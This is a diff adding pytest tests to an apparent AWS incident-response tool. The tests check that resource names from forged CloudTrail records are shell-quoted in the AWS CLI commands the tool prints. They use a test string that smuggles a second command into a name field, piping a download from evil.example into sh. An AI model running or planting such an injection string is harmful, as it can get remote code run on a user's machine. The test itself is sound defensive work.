@@ -7,6 +7,7 @@ Every AWS request goes through tests/fake_aws/proxy.py (to moto for IAM/STS), wh
 
 from __future__ import annotations
 
+import json
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -181,3 +182,75 @@ def test_an_sts_identity_that_does_not_hold_together_changes_nothing(
     assert sts.calls == 1 and ops(proxy) == []  # nothing but GetCallerIdentity
     assert _statuses(story.iam, "benjamin") == {story.suspect: "Active", story.other: "Active"}
     assert "Traceback" not in out + err
+
+
+# --------------------------------------------------------------------------------------------
+# names in the printed commands
+# --------------------------------------------------------------------------------------------
+EVIL = "fn;curl -s evil.example|sh #$(id)`id`"
+
+
+def _forged(case: Path, name: str, source: str, params: dict[str, object]) -> None:
+    record = {
+        "eventVersion": "1.08",
+        "userIdentity": {
+            "type": "IAMUser",
+            "accessKeyId": SUSPECT,
+            "userName": "benjamin",
+            "accountId": SAMPLE_ACCOUNT,
+            "principalId": "AIDATFQR7NSC5U6Q3TMDR",
+        },
+        "eventTime": "2023-07-10T12:18:00Z",
+        "eventSource": source,
+        "eventName": name,
+        "awsRegion": "us-east-1",
+        "recipientAccountId": SAMPLE_ACCOUNT,
+        "sourceIPAddress": "185.220.101.34",
+        "userAgent": "aws-cli/2.13.0",
+        "requestParameters": params,
+        "responseElements": None,
+        "eventID": f"forged-{name}",
+        "eventType": "AwsApiCall",
+    }
+    (case / "cloudtrail" / f"forged-{name}.json").write_text(json.dumps({"Records": [record]}))
+
+
+def test_names_from_forged_records_are_quoted_in_every_suggested_command(
+    proxy: FaultProxy, tmp_path: Path
+) -> None:
+    """A Lambda function and statement named with shell syntax by a forged record in the case
+    folder: every `aws …` command the plan prints — the step's own and the one its reason
+    suggests (`aws lambda get-policy --function-name …`) — holds the name as one quoted word, so
+    pasting it runs that command only (was: the reason's command carried it bare)."""
+    case = sample_case_with(tmp_path, {})
+    _forged(
+        case,
+        "AddPermission20150331v2",
+        "lambda.amazonaws.com",
+        {"functionName": EVIL, "statementId": EVIL, "action": "lambda:InvokeFunction"},
+    )
+    code, out, err = run("actions", FINDING, "--case", str(case), "--plan", "remediate")
+    assert code == 0, err
+    quoted = "'" + EVIL.replace("'", "'\"'\"'") + "'"
+    assert f"(aws lambda get-policy --function-name={quoted})" in out
+    assert f"--function-name={quoted} --statement-id={quoted}" in out
+    for flag in ("--function-name", "--statement-id"):  # never a bare value after a flag
+        assert f"{flag}={EVIL}" not in out and f"{flag} {EVIL}" not in out
+    assert proxy.calls() == []
+
+
+def test_the_dry_run_quotes_every_value_of_its_command_lines() -> None:
+    """The class: every value of a plan's AWS CLI line is one shell word — a region (from a
+    finding or an event), a user name, a policy document — whatever it holds."""
+    from torinvest.actions import Action
+
+    a = Action("guardduty", "ArchiveFindings", {"DetectorId": EVIL}, why="x", region=EVIL)
+    quoted = "'" + EVIL + "'"
+    assert f"--region={quoted}" in a.cli() and f"--detector-id={quoted}" in a.cli()
+    assert a.cli().count(EVIL) == 2
+
+    from torinvest.safety import cli_option
+
+    assert cli_option("--user-name", "a\nb") == "--user-name='a\nb'"
+    assert cli_option("--user-name", "it's") == "--user-name='it'\"'\"'s'"
+    assert cli_option("--user-name", "svc-ops+x@y.z") == "--user-name=svc-ops+x@y.z"
